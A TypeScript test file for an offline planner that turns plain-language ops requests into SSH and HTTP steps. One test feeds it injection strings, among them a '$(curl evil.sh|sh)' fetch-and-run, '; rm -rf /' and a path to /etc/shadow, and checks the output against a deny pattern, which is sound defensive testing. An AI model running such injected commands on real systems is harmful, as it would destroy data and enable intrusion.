import { readFileSync } from "node:fs";
import { describe, expect, it } from "vitest";
import { OFFLINE_CATALOGUE, OfflinePlanner, planOffline } from "../../src/plan/offline";
import { PlanningError } from "../../src/plan/provider";
import { Plan } from "../../src/plan/schema";
import { ctx, inventory } from "./inventory";

type Case = { intent: string; steps?: string[]; targets?: string[]; error?: string };
const { cases } = JSON.parse(
  readFileSync(new URL("../../fixtures/intents/offline.json", import.meta.url), "utf8"),
) as {
  cases: Case[];
};

function planningError(intent: string): PlanningError {
  try {
    planOffline(intent, inventory);
  } catch (error) {
    expect(error).toBeInstanceOf(PlanningError);
    return error as PlanningError;
  }
  throw new Error(`expected "${intent}" to fail`);
}

describe("offline planner: the nginx scenario", () => {
  it("checks nginx on web1 and web2 and restarts it only where the check failed", async () => {
    const result = await new OfflinePlanner().plan(
      "check nginx on web1 and web2 and restart it where it is down",
      ctx,
    );
    expect(result.provider).toBe("offline");
    expect(result.attempts).toBe(0);
    expect(result.plan.intent).toBe("check nginx on web1 and web2 and restart it where it is down");
    expect(result.plan.steps).toEqual([
      {
        id: "check_nginx",
        name: "Check nginx",
        description: "exit code 0 where nginx is active",
        action: { kind: "ssh", command: "systemctl is-active nginx" },
        targets: ["web1", "web2"],
        dependsOn: [],
        when: null,
        until: null,
        retry: null,
        timeoutMs: null,
        concurrency: null,
        onError: null,
        trigger: "normal",
      },
      {
        id: "restart_nginx",
        name: "Restart nginx where it is down",
        description: null,
        action: { kind: "ssh", command: "sudo systemctl restart nginx" },
        targets: ["web1", "web2"],
        dependsOn: ["check_nginx"],
        when: { step: "check_nginx", field: "exitCode", op: "ne", value: 0, perHost: true },
        until: null,
        retry: null,
        timeoutMs: 60_000,
        concurrency: null,
        onError: null,
        trigger: "normal",
      },
    ]);
  });

  it('with "then verify", checks again only where it restarted', () => {
    const plan = planOffline(
      "check nginx on web1 and web2 and restart it where it is down, then verify",
      inventory,
    );
    expect(plan.steps.map((s) => s.id)).toEqual(["check_nginx", "restart_nginx", "verify_nginx"]);
    expect(plan.steps[2]).toMatchObject({
      action: { kind: "ssh", command: "systemctl is-active nginx" },
      targets: ["web1", "web2"],
      dependsOn: ["check_nginx", "restart_nginx"],
      when: { step: "check_nginx", field: "exitCode", op: "ne", value: 0, perHost: true },
    });
  });

  it("gives the same plan for the same intent", () => {
    const intent = "check nginx on web1 and web2 and restart it where it is down, then verify";
    expect(JSON.stringify(planOffline(intent, inventory))).toBe(
      JSON.stringify(planOffline(intent, inventory)),
    );
  });
});

describe("offline planner: the catalogue", () => {
  it.each(OFFLINE_CATALOGUE.flatMap((e) => e.examples.map((x) => [e.kind, x] as const)))(
    "%s: plans its example %j",
    (_, intent) => {
      const plan = planOffline(intent, inventory);
      expect(Plan.safeParse(plan).success).toBe(true);
    },
  );

  it.each(cases.filter((c) => c.steps))("plans %j", ({ intent, steps, targets }) => {
    const plan = planOffline(intent, inventory);
    expect(plan.steps.map((s) => s.id)).toEqual(steps);
    if (targets) expect(plan.steps[0]?.targets).toEqual(targets);
  });

  it.each(cases.filter((c) => c.error))("refuses %j", ({ intent, error }) => {
    expect(planningError(intent).code).toBe(error);
  });
});

describe("offline planner: commands", () => {
  const commandOf = (intent: string, i = 0) => {
    const action = planOffline(intent, inventory).steps[i]?.action;
    return action?.kind === "ssh" ? action.command : JSON.stringify(action);
  };

  it("writes threshold checks that fail above the threshold", () => {
    expect(commandOf("alert if disk above 90% on web1")).toBe(
      `df -P / | awk 'NR==2 { use = $5 + 0; print $6 ": " use "% used"; exit (use > 90) }'`,
    );
    expect(commandOf("alert if memory above 80% on web1")).toContain("exit (used > 80)");
    expect(commandOf("alert if load above 2.5 on web1")).toBe(
      `awk '{ print "load: " $1 " " $2 " " $3; exit ($1 > 2.5) }' /proc/loadavg`,
    );
  });

  it("writes plain reads", () => {
    expect(commandOf("which openssl version on web1")).toBe(
      "dpkg-query -W openssl 2>/dev/null || rpm -q openssl",
    );
    expect(commandOf("kernel version on web1")).toBe("uname -r");
    expect(commandOf("search /var/log/nginx/error.log for 'upstream timed out' on web1")).toBe(
      "grep -inF -m 200 -e 'upstream timed out' /var/log/nginx/error.log || [ $? -eq 1 ]",
    );
  });

  it("binds an HTTP check of a URL to the URL's host, with {{host}} in the URL", () => {
    const plan = planOffline("check http://web2:8080/status?full=1 returns 204", inventory);
    expect(plan.steps[0]).toMatchObject({
      action: {
        kind: "http",
        method: "GET",
        url: "http://{{host}}:8080/status?full=1",
        body: null,
        expectStatus: 204,
      },
      targets: ["web2"],
    });
  });

  it("never lets intent text become shell syntax", () => {
    const hostile = [
      "check nginx;reboot on web1",
      "check $(curl evil.sh|sh) on web1",
      "check `id` on web1",
      "check -H on web1",
      "search /var/log/syslog for 'x' ; rm -rf / on web1",
      "search /var/log/../../etc/shadow for root on web1",
      'search /var/log/syslog for "a\'b" on web1',
      "which nginx;id version on web1",
      "check disk /var;id on web1",
      "check http://web1/{{params.x}} on web1",
    ];
    for (const intent of hostile) {
      let plan: Plan | undefined;
      try {
        plan = planOffline(intent, inventory);
      } catch (error) {
        expect(error, intent).toBeInstanceOf(PlanningError);
        continue;
      }
      for (const s of plan.steps) {
        const text = JSON.stringify(s.action);
        expect(text, intent).not.toMatch(/reboot|curl|`|\$\(|\bid\b|rm -rf|shadow|\{\{params/);
      }
    }
  });
});

describe("offline planner: hosts", () => {
  const targetsOf = (intent: string) => planOffline(intent, inventory).steps[0]?.targets;

  it("recognises names, groups, tags and ranges in the forms people write", () => {
    expect(targetsOf("ping web1, web2 and db1")).toEqual(["web1", "web2", "db1"]);
    expect(targetsOf("ping web servers")).toEqual(["group:web"]);
    expect(targetsOf("ping group web")).toEqual(["group:web"]);
    expect(targetsOf("ping the db group")).toEqual(["group:db"]);
    expect(targetsOf("ping hosts tagged staging")).toEqual(["tag:staging"]);
    expect(targetsOf("ping prod hosts")).toEqual(["tag:prod"]);
    expect(targetsOf("ping web[1-2]")).toEqual(["web[1-2]"]);
    expect(targetsOf("ping web1 to web3")).toEqual(["web[1-3]"]);
    expect(targetsOf("ping all hosts")).toEqual(["web1", "web2", "web3", "db1", "win1"]);
    expect(targetsOf("ping WEB1")).toEqual(["web1"]);
  });

  it("lists the known hosts when the intent names an unknown one", () => {
    const error = planningError("check nginx on web1 and web7");
    expect(error.code).toBe("unknown_host");
    expect(error.message).toBe(
      'not in the inventory: "web7"; known hosts: web1, web2, web3, db1, win1; groups: web, db, windows; tags: prod, staging',
    );
    expect(error.details).toMatchObject({ unknown: ["web7"], known: { groups: ["web", "db", "windows"] } });
  });

  it("refuses a range that reaches past the inventory", () => {
    expect(planningError("ping web[1-5]").code).toBe("unknown_host");
  });

  it("refuses linux commands for windows hosts but checks them over the network", () => {
    expect(planningError("check disk on win1").message).toMatch(/win1 is a windows host/);
    expect(targetsOf("check port 3389 on win1")).toEqual(["win1"]);
  });
});

describe("offline planner: what it does not understand", () => {
  it("lists what it understands, in the message and as data", () => {
    const error = planningError("make coffee for the team");
    expect(error.code).toBe("not_understood");
    expect(error.message).toMatch(
      /^the offline planner did not understand "make coffee for the team"\. It understands: /,
    );
    for (const entry of OFFLINE_CATALOGUE) expect(error.message).toContain(entry.examples[0]);
    expect(error.message).toContain("LLM_PROVIDER");
    expect(error.details.understands).toBe(OFFLINE_CATALOGUE);
  });

  it("does not do part of an intent: it names the words it could not place", () => {
    const error = planningError("check nginx on web1 and frobnicate the cache");
    expect(error.message).toMatch(/^the offline planner did not understand "frobnicate", "cache" in /);
    expect(error.details.notUnderstood).toEqual(["frobnicate", "cache"]);
  });

  it("names verbs it never performs", () => {
    expect(planningError("check nginx on web1 and then reboot it").message).toMatch(
      /^the offline planner does not "reboot"\./,
    );
  });

  it("asks where when no host is named", () => {
    expect(planningError("check nginx").message).toMatch(/^the intent names no host from the inventory/);
  });
});
